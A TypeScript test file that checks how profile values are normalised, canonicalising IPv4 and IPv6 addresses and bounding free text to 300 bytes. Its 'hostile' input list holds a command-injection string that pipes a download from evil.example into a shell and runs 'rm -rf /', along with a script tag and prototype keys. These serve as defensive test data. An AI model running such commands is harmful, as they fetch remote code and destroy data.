import { expect } from "chai";
import * as fc from "fast-check";

import { addressValue, boundedValue } from "../../../core/profiles/values";
import { anyText } from "./sample-request";

describe("an address in a profile", () => {
  const forms: readonly (readonly [string, string])[] = [
    ["203.0.113.7", "203.0.113.7"],
    [" 203.0.113.7 ", "203.0.113.7"],
    ["2001:db8::1", "2001:db8::1"],
    ["2001:0DB8:0000:0000:0000:0000:0000:0001", "2001:db8::1"],
    ["2001:db8:0:0:1:0:0:1", "2001:db8::1:0:0:1"],
    ["2001:db8:0:1:1:1:1:1", "2001:db8:0:1:1:1:1:1"],
    ["::", "::"],
    ["::1", "::1"],
    ["fe80::1%eth0", "fe80::1"],
    ["::ffff:203.0.113.7", "203.0.113.7"],
    ["::ffff:cb00:7107", "203.0.113.7"],
    ["AWS Internal", "AWS Internal"],
    ["253.234.045.249", "253.234.045.249"],
    ["", ""],
  ];
  for (const [text, value] of forms) {
    it(`is ${JSON.stringify(value)} for ${JSON.stringify(text)}`, () => expect(addressValue(text)).to.equal(value));
  }

  it("has one form, in which it is found again", () => {
    fc.assert(
      fc.property(fc.ipV6(), (text) => {
        expect(addressValue(addressValue(text))).to.equal(addressValue(text));
      }),
    );
  });

  it("is the same for every way to write the same IPv6 address, and for no other one", () => {
    const groups = fc.array(fc.oneof(fc.constant(0), fc.integer({ min: 0, max: 0xffff })), {
      minLength: 8,
      maxLength: 8,
    });
    const written = (address: readonly number[]) => address.map((group) => group.toString(16)).join(":");
    const padded = (address: readonly number[]) =>
      address.map((group) => group.toString(16).padStart(4, "0").toUpperCase()).join(":");
    fc.assert(
      fc.property(groups, groups, (left, right) => {
        expect(addressValue(written(left))).to.equal(addressValue(padded(left)));
        expect(addressValue(written(left)) === addressValue(written(right))).to.equal(written(left) === written(right));
      }),
    );
  });
});

describe("a text in a profile", () => {
  const hostile = [
    "aws-cli/2.15.0 Python/3.11.6 Linux/5.10 exe/x86_64 prompt/off command/s3.ls",
    "Agent \"quoted\": with 'both' kinds, and : colons",
    "$(curl evil.example | sh) `reboot` ; rm -rf / && true",
    "<script>alert(1)</script> <!channel> &amp;",
    "line\nbreak\r\n\u0000 null \u202e turned",
    "__proto__",
    "constructor",
    "#sha256:",
    "",
    " ",
    "\ud800 half a pair",
  ];
  for (const text of hostile) {
    it(`is exactly what it was: ${JSON.stringify(text)}`, () => expect(boundedValue(text)).to.equal(text));
  }

  it("takes at most 300 bytes of JSON", () => {
    fc.assert(
      fc.property(anyText(600), (text) => {
        expect(Buffer.byteLength(JSON.stringify(boundedValue(text)))).to.be.at.most(300);
      }),
    );
  });

  it("tells long texts apart by all of them", () => {
    const beginning = "Mozilla/5.0 ".repeat(40);
    const ends = ["", "a", "b", "\ud800", "\ud801"];
    const values = ends.map((end) => boundedValue(beginning + end));
    expect(new Set(values).size).to.equal(ends.length);
    for (const value of values) expect(value.startsWith("Mozilla/5.0 Mozilla/5.0")).to.equal(true);
  });

  it("can't be chosen to pose as a longer one", () => {
    const value = boundedValue("x".repeat(1_000));
    expect(boundedValue(value)).not.to.equal(value);
  });
});
